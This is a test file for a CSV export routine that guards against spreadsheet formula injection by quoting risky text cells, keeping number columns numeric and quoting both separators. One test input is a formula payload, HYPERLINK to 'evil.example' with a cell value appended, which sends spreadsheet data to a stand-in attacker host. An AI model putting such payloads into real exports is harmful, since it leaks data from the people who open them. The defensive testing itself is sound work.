import { describe, expect, it } from 'vitest';
import { csvRecord } from '../../src/app/reports/csv';

/** Text cells a spreadsheet would run as a formula start with a single quote; Kvorum's numbers stay numbers. */
describe('a CSV record', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a text cell that starts with %j', (start) => {
    const value = `${start}HYPERLINK("http://evil.example/?"&A1,"open me")`;
    const quoted = `"'${value.replaceAll('"', '""')}"`;
    expect(csvRecord(['meeting', value], ',')).toBe(`meeting,${quoted}\r\n`);
  });

  it('keeps a phone number readable: every digit and the + stay, after the quote that makes it text', () => {
    expect(csvRecord(['+4791234567', '91234567'], ',')).toBe("'+4791234567,91234567\r\n");
  });

  it('leaves formula characters inside a cell alone', () => {
    expect(csvRecord(['Acme-Nord', 'a=b', 'x@y.example', 'rate+VAT'], ',')).toBe('Acme-Nord,a=b,x@y.example,rate+VAT\r\n');
  });

  it('writes number columns as plain numbers, negative amounts included, and refuses anything else there', () => {
    const amounts = new Set([1, 2]);
    expect(csvRecord(['adjustment', '-5.10', ''], ',', amounts)).toBe('adjustment,-5.10,\r\n');
    expect(csvRecord(['-5.10', '-5.10'], ';', new Set([1]))).toBe("'-5.10;-5.10\r\n");
    for (const notANumber of ['=1+1', '-2+3', '+5', '1e3', ' 5']) {
      expect(() => csvRecord(['adjustment', notANumber, ''], ',', amounts)).toThrow('a CSV number column was given');
    }
  });

  it('quotes either separator, whichever the file uses, so a spreadsheet guessing the other cannot split a cell', () => {
    expect(csvRecord(['Board; =1+1', 'a,b'], ',')).toBe('"Board; =1+1","a,b"\r\n');
    expect(csvRecord(['Board; =1+1', 'a,b'], ';')).toBe('"Board; =1+1";"a,b"\r\n');
  });
});
